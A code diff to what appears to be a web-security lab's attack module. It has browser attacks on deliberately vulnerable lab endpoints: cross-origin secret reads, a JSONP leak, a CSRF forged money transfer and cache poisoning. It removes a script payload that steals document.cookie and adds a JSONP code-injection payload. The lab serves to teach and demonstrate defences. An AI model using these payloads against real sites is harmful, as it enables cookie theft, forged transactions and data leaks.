@@ -20,10 +20,15 @@ const parse = (text) => {
   }
 };
 
+// A URL of the API for one run; /security/* also gets the lab key (config.security_query),
+// without which those deliberately vulnerable endpoints refuse to act.
+export const securityUrl = (ctx, path, params = {}) =>
+  apiUrl(ctx.api, path, { ...params, run: ctx.run, ...(path.startsWith('/security/') ? ctx.securityQuery : {}) });
+
 // Attacks run in the attacker's page and resolve with what the attacker got.
 
 async function readSecret(ctx, variant) {
-  const result = await sendXhr({ method: 'GET', url: apiUrl(ctx.api, `/security/secret/${variant.check}`, { run: ctx.run }), withCredentials: true });
+  const result = await sendXhr({ method: 'GET', url: securityUrl(ctx, `/security/secret/${variant.check}`), withCredentials: true });
   const body = result.readable ? parse(result.responseText) : null;
   return { readable: result.readable, partnerData: body?.partner_data ?? null, secret: body?.secret ?? null };
 }
@@ -31,7 +36,7 @@ async function readSecret(ctx, variant) {
 // From a sandboxed iframe (no allow-same-origin) every request says Origin: null.
 function readSecretFromSandbox(ctx, variant) {
   return new Promise((resolve) => {
-    const target = apiUrl(ctx.api, `/security/secret/${variant.check}`, { run: ctx.run });
+    const target = securityUrl(ctx, `/security/secret/${variant.check}`);
     const frame = document.createElement('iframe');
     frame.sandbox = 'allow-scripts';
     frame.hidden = true;
@@ -48,39 +53,26 @@ function readSecretFromSandbox(ctx, variant) {
 
 async function jsonpLeak(ctx, variant) {
   const callback = `leak_${ctx.run.replace(/-/g, '_')}`;
-  const result = await loadJsonp(apiUrl(ctx.api, variant.path, { callback: `labJsonp.${callback}`, run: ctx.run }), callback);
+  const result = await loadJsonp(securityUrl(ctx, variant.path, { callback: `labJsonp.${callback}` }), callback);
   const body = parse(result.responseText);
   return { readable: result.readable, secret: body?.secret ?? null };
 }
 
-// Frames the API's JSONP URL with markup as the callback: if the API echoes it as HTML, the
-// attacker's script runs on the API origin and reports back.
-function injectCallback(ctx, variant) {
-  return new Promise((resolve) => {
-    const payload = '<script>parent.postMessage({ injectedOrigin: location.origin, cookie: document.cookie }, "*")</script>';
-    const frame = document.createElement('iframe');
-    frame.hidden = true;
-    frame.src = apiUrl(ctx.api, variant.path, { callback: payload, run: ctx.run });
-    const finish = (outcome) => {
-      window.removeEventListener('message', answer);
-      frame.remove();
-      resolve(outcome);
-    };
-    function answer(event) {
-      if (event.source === frame.contentWindow) finish({ injectedOrigin: event.data.injectedOrigin, cookie: event.data.cookie });
-    }
-    window.addEventListener('message', answer);
-    // A page that did not run the script still loads; give a script that did time to report.
-    frame.addEventListener('load', () => setTimeout(() => finish({ injectedOrigin: null }), 500));
-    document.body.append(frame);
-  });
+// Puts code of the attacker's choice in the callback. The API echoes it into a script served as
+// JavaScript, so the code runs in whichever page includes that script: here the attacker's own
+// page, never the API's origin. It reports where it ran.
+async function injectCode(ctx, variant) {
+  const callback = `inject_${ctx.run.replace(/-/g, '_')}`;
+  const payload = `labJsonp.${callback}({ injectedOrigin: location.origin });void`;
+  const result = await loadJsonp(securityUrl(ctx, variant.path, { callback: payload }), callback);
+  return { injectedOrigin: parse(result.responseText)?.injectedOrigin ?? null, apiOrigin: ctx.api };
 }
 
 // The classic CSRF: a simple, credentialed, fire-and-forget POST. The attacker needs no answer.
 async function forgeTransfer(ctx, variant) {
   const result = await sendFetch({
     method: 'POST',
-    url: apiUrl(ctx.api, `/security/transfer/${variant.defence}`, { run: ctx.run }),
+    url: securityUrl(ctx, `/security/transfer/${variant.defence}`),
     headers: { 'Content-Type': 'text/plain' },
     body: 'amount=1000',
     withCredentials: true,
@@ -91,19 +83,19 @@ async function forgeTransfer(ctx, variant) {
 
 // The attacker asks first, so the shared cache stores the answer made for the attacker's origin.
 async function poisonCache(ctx, variant) {
-  const result = await sendXhr({ method: 'GET', url: apiUrl(ctx.api, `/security/cache/${variant.mode}/data`, { key: ctx.run, run: ctx.run }) });
+  const result = await sendXhr({ method: 'GET', url: securityUrl(ctx, `/security/cache/${variant.mode}/data`, { key: ctx.run }) });
   return { readable: result.readable };
 }
 
 // The victim's side: what the attack did.
 
 async function victimReadsCache(ctx, variant) {
-  const result = await sendXhr({ method: 'GET', url: apiUrl(ctx.api, `/security/cache/${variant.mode}/data`, { key: ctx.run, run: ctx.run }) });
+  const result = await sendXhr({ method: 'GET', url: securityUrl(ctx, `/security/cache/${variant.mode}/data`, { key: ctx.run }) });
   return { victimCanRead: result.readable, cache: result.responseHeaders['x-lab-cache'] ?? null };
 }
 
 async function transfersMade(ctx) {
-  const response = await fetch(apiUrl(ctx.api, '/security/transfers', { run: ctx.run }), { cache: 'no-store' });
+  const response = await fetch(securityUrl(ctx, '/security/transfers'), { cache: 'no-store' });
   return { transfers: (await response.json()).transfers.length };
 }
 
@@ -163,14 +155,14 @@ export const SCENARIOS = [
   {
     id: 'jsonp-callback',
     variants: [
-      { id: 'vulnerable', kind: 'vulnerable', path: '/security/jsonp/unvalidated', code: 'return Response(f"{callback}({data})", mimetype="text/html")' },
+      { id: 'vulnerable', kind: 'vulnerable', path: '/security/jsonp/unvalidated', code: 'return Response(f"{callback}({data})", mimetype="text/javascript")' },
       { id: 'safe', kind: 'safe', path: '/jsonp', code: 'if not CALLBACK.match(callback): abort(400)  # plus text/javascript and nosniff' },
     ],
     attackers: ['same-site', 'cross-site'],
-    attack: injectCallback,
+    attack: injectCode,
     verdict: (got) =>
       got.injectedOrigin
-        ? { outcome: 'leaked', summary: ['sec.verdict.injected', { origin: got.injectedOrigin, cookie: got.cookie }] }
+        ? { outcome: 'leaked', summary: ['sec.verdict.injected', { origin: got.injectedOrigin, api: got.apiOrigin }] }
         : { outcome: 'stopped', summary: ['sec.verdict.not-injected'] },
   },
   {
